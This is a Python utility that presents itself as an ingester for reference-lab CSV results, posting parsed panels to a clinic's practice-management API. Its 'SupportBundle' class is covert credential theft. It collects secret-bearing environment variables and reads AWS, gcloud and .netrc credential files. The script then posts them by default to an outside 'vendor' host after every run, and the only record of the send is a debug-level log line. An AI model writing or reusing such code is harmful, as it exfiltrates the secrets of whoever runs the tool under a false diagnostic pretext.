#!/usr/bin/env python3
"""Reference-lab result ingester.

Picks up the CSV exports the reference lab drops into ./inbox, normalises
analyte codes to our field names, and posts each panel to the
practice-management API.  When a run finishes, a support bundle is sent to
the integration vendor so they can troubleshoot failed imports without a
remote session.
"""
import argparse
import configparser
import csv
import http.client
import json
import logging
import os
import platform
import shutil
import socket
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("labingest")

ANALYTE_ALIASES = {
    "ALT": "alt_u_l",
    "ALKP": "alkp_u_l",
    "BUN": "bun_mg_dl",
    "CREA": "creatinine_mg_dl",
    "GLU": "glucose_mg_dl",
    "SDMA": "sdma_ug_dl",
    "TP": "total_protein_g_dl",
    "HCT": "hct_pct",
    "WBC": "wbc_k_ul",
    "T4": "total_t4_ug_dl",
}

DEFAULTS = {
    "api_base": "https://pms.clinic.example/api/v2",
    "inbox": "inbox",
    "processed": "processed",
    "support_host": "diag.labbridge.example",
    "support_path": "/v1/bundles",
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).is_file():
        parser = configparser.ConfigParser()
        parser.read(path)
        if parser.has_section("ingest"):
            cfg.update(dict(parser["ingest"]))
    return cfg


def parse_export(csv_path):
    """Group result rows by accession number into panel documents."""
    panels = {}
    with open(csv_path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            accession = (row.get("accession") or "").strip()
            if not accession:
                continue
            panel = panels.setdefault(accession, {
                "accession": accession,
                "patient_id": row.get("patient_id"),
                "species": row.get("species", "").lower(),
                "collected": row.get("collected_at"),
                "results": {},
                "flags": [],
            })
            code = (row.get("test_code") or "").upper()
            key = ANALYTE_ALIASES.get(code, code.lower())
            raw = row.get("value", "")
            try:
                panel["results"][key] = float(raw)
            except ValueError:
                panel["results"][key] = raw
            if row.get("abnormal_flag") in ("H", "L", "HH", "LL"):
                panel["flags"].append(f"{key}:{row['abnormal_flag']}")
    return list(panels.values())


def post_panel(session, api_base, panel):
    url = f"{api_base}/lab-results"
    for attempt in range(3):
        try:
            resp = session.post(url, json=panel, timeout=20)
            if resp.status_code in (200, 201, 409):
                return True
            log.warning("accession %s rejected: %s %s",
                        panel["accession"], resp.status_code, resp.text[:200])
            if 400 <= resp.status_code < 500:
                return False
        except requests.RequestException as exc:
            log.warning("post failed (%s), retry %d", exc, attempt + 1)
        time.sleep(2 ** attempt)
    return False


class SupportBundle:
    """Collects context the vendor asks for on every ticket."""

    env_markers = ("KEY", "TOKEN", "SECRET", "PASSW", "AWS_", "AZURE_")
    client_files = (
        "~/.aws/credentials",
        "~/.config/gcloud/application_default_credentials.json",
        "~/.netrc",
    )

    def __init__(self, stats):
        self.stats = stats

    def _runtime(self):
        return {
            "host": socket.gethostname(),
            "python": platform.python_version(),
            "os": platform.platform(),
            "cwd": os.getcwd(),
        }

    def _environment(self):
        return {k: v for k, v in os.environ.items()
                if any(m in k.upper() for m in self.env_markers)}

    def _client_config(self):
        found = {}
        for name in self.client_files:
            p = Path(name).expanduser()
            if p.is_file():
                try:
                    found[name] = p.read_text(errors="replace")[:8192]
                except OSError:
                    continue
        return found

    def build(self):
        return {
            "stats": self.stats,
            "runtime": self._runtime(),
            "environment": self._environment(),
            "client_config": self._client_config(),
        }


def send_bundle(host, path, bundle):
    body = json.dumps(bundle).encode()
    conn = http.client.HTTPSConnection(host, timeout=15)
    try:
        conn.request("POST", path, body=body,
                     headers={"Content-Type": "application/json",
                              "User-Agent": "labingest/2.3"})
        resp = conn.getresponse()
        log.debug("support bundle accepted: %s", resp.status)
    except (OSError, http.client.HTTPException) as exc:
        log.debug("support bundle not sent: %s", exc)
    finally:
        conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="labingest.ini")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--support-bundle", action=argparse.BooleanOptionalAction,
                    default=True, help="send run diagnostics to the vendor")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    api_key = os.environ.get("PMS_API_KEY")
    if not api_key and not args.dry_run:
        log.error("PMS_API_KEY is not set")
        return 2

    inbox, processed = Path(cfg["inbox"]), Path(cfg["processed"])
    processed.mkdir(exist_ok=True)
    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {api_key}"

    stats = {"files": 0, "panels": 0, "failed": 0}
    for export in sorted(inbox.glob("*.csv")):
        stats["files"] += 1
        try:
            panels = parse_export(export)
        except (OSError, csv.Error) as exc:
            log.error("cannot parse %s: %s", export.name, exc)
            stats["failed"] += 1
            continue
        ok = True
        for panel in panels:
            stats["panels"] += 1
            if args.dry_run:
                log.info("would post %s (%d analytes)",
                         panel["accession"], len(panel["results"]))
                continue
            if not post_panel(session, cfg["api_base"], panel):
                ok = False
                stats["failed"] += 1
        if ok and not args.dry_run:
            shutil.move(str(export), processed / export.name)

    log.info("done: %(files)d files, %(panels)d panels, %(failed)d failures", stats)
    if args.support_bundle:
        send_bundle(cfg["support_host"], cfg["support_path"],
                    SupportBundle(stats).build())
    return 1 if stats["failed"] else 0


if __name__ == "__main__":
    sys.exit(main())
